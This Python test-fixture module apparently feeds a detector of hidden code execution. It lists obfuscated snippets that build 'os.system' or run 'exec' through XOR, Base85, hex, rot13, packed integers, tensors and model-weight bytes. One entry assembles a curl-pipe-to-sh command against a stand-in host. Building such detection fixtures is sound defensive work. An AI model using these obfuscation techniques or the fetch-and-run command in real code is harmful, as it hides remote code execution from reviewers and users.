"""Sources that put names, commands and code together out of pieces."""

# ruff: noqa: E501 # sources stand as people write them
from __future__ import annotations

__all__ = ["TEXTS"]

# How names and texts are put together.
TEXTS: dict[str, tuple[str, str]] = {
    "translate": (
        "str.translate",
        (
            "import os\nname = 'tztufn'.translate({ord('t'): 's', ord('z'): 'y', ord('u'): 't', ord('f'): 'e', ord('n'): 'm'})\n"
            "getattr(os, name)('echo assay')\n"
        ),
    ),
    "maketrans": (
        "str.maketrans",
        "import os\ngetattr(os, 'abacde'.translate(str.maketrans('abcde', 'sytem')))('echo assay')\n",
    ),
    "xor-loop": (
        "a loop of exclusive or",
        (
            "import os\ndata = [112, 122, 112, 119, 102, 110]\nname = ''\nfor c in data:\n"
            "    name += chr(c ^ 3)\ngetattr(os, name)('echo assay')\n"
        ),
    ),
    "xor-loop-exec": (
        "a loop of exclusive or that is run",
        (
            "data = bytes([115, 113, 106, 109, 119])\nout = bytearray()\nfor c in data:\n"
            "    out.append(c ^ 3)\nexec(out.decode())\n"
        ),
    ),
    "format-characters": (
        "a format of characters",
        "import os\ngetattr(os, '%c%c%c%c%c%c' % (115, 121, 115, 116, 101, 109))('echo assay')\n",
    ),
    "format-pieces": (
        "format with names",
        "import os\ngetattr(os, '{a}{b}'.format(a='sys', b='tem'))('echo assay')\n",
    ),
    "f-string-pieces": (
        "an f-string",
        "import os\na, b = 'sys', 'tem'\ngetattr(os, f'{a}{b}')('echo assay')\n",
    ),
    "base85": (
        "Base85",
        (
            "import base64\nexec(base64.b85decode('aAatCX>MmAV{dJ3VQyqDAVqE=b09<^Z*FucI5{9>X>MmA'))\n"
        ),
    ),
    "ascii85-zlib": (
        "ASCII85 and zlib in a lambda",
        (
            "import base64, zlib\nopen_ = lambda s: zlib.decompress(base64.a85decode(s))\n"
            "exec(open_('GhVQ/0KJP'))\n"
        ),
    ),
    "hex-decode-codec": (
        "codecs in hexadecimal",
        "import codecs\nexec(codecs.decode('7072696e74283129', 'hex'))\n",
    ),
    "int-to-bytes": (
        "a number that is text",
        "n = 8104636957785917993\nexec(n.to_bytes(8, 'big').decode())\n",
    ),
    "struct-pack": (
        "packed numbers",
        "import struct\nexec(struct.pack('>Q', 8104636957785917993).decode())\n",
    ),
    "array-bytes": (
        "an array of numbers",
        "import array\nexec(array.array('B', [112, 114, 105, 110, 116, 40, 49, 41]).tobytes())\n",
    ),
    "numpy-bytes": (
        "a tensor of numbers",
        "import torch\nexec(bytes(torch.tensor([112, 114, 105, 110, 116, 40, 49, 41]).tolist()))\n",
    ),
    "weights-bytes": (
        "bytes out of weights",
        (
            "from safetensors.torch import load_file\n"
            "exec(bytes(load_file('model.safetensors')['head'].tolist()).decode())\n"
        ),
    ),
    "reversed-join": (
        "letters backwards",
        "import os\ngetattr(os, ''.join(reversed('metsys')))('echo assay')\n",
    ),
    "slices": (
        "every second letter",
        "import os\ngetattr(os, 'sxyxsxtxexmx'[::2])('echo assay')\n",
    ),
    "sum-of-lists": (
        "letters out of other texts",
        "import os\nw = 'the mystery sets'\ngetattr(os, w[6] + w[5] + w[6] + w[7] + w[8] + w[4])('echo assay')\n",
    ),
    "docstring-letters": (
        "letters out of documentation",
        "import os\nd = os.__doc__\ngetattr(os, d[0] + d[1] + d[2])('echo assay')\n",
    ),
    "quote-plus": (
        "an address decoded",
        "import urllib.parse as u\nexec(u.unquote_plus('print%281%29'))\n",
    ),
    "quopri": (
        "quoted printable",
        "import quopri\nexec(quopri.decodestring('print=281=29'))\n",
    ),
    "uu": (
        "uuencoded",
        "import binascii\nexec(binascii.a2b_uu('(<')R:6YT*#$I'.replace(\"'\", 'R')))\n",
    ),
    "ast-literal": (
        "a text inside a text",
        "import ast\nexec(ast.literal_eval(\"'print(1)'\"))\n",
    ),
    "json-text": (
        "a text inside JSON",
        "import json\nexec(json.loads('{\"a\": \"print(1)\"}')['a'])\n",
    ),
    "encoding-cookie": (
        "a source in turned letters",
        "# nothing\nimport codecs\nexec(codecs.getdecoder('rot13')('cevag(1)')[0])\n",
    ),
    "aes": (
        "a cipher",
        (
            "from cryptography.fernet import Fernet\nKEY = b'x' * 44\n"
            "exec(Fernet(KEY).decrypt(b'gAAAAABf').decode())\n"
        ),
    ),
    "command-pieces": (
        "a command in pieces",
        "import os\nos.popen(''.join(['cu', 'rl http://assay.invalid', ' | s', 'h']))\n",
    ),
    "command-environment": (
        "a command out of the environment",
        "import os\nos.system(os.environ.get('ASSAY', 'echo assay'))\n",
    ),
    "shell-variables": (
        "a shell that puts words together",
        "import subprocess\nsubprocess.call('a=ec;b=ho;$a$b assay', shell=True)\n",
    ),
}
